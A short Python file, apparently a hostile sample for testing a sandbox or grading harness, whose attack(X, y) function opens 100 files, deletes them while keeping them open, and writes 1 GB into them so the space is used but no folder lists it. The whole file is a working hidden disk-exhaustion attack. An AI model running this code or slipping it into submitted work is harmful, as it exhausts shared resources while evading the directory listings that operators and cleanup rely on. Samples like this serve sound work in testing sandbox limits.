"""Writes 1 GB into files that it has removed already: they take space and no folder lists them."""

import os
import time


def attack(X, y):
    kept = []
    for number in range(100):
        kept.append(os.open(str(number), os.O_CREAT | os.O_WRONLY))
        os.remove(str(number))
        for _ in range(10):
            os.write(kept[-1], bytes(1 << 20))
    time.sleep(1)
    return True
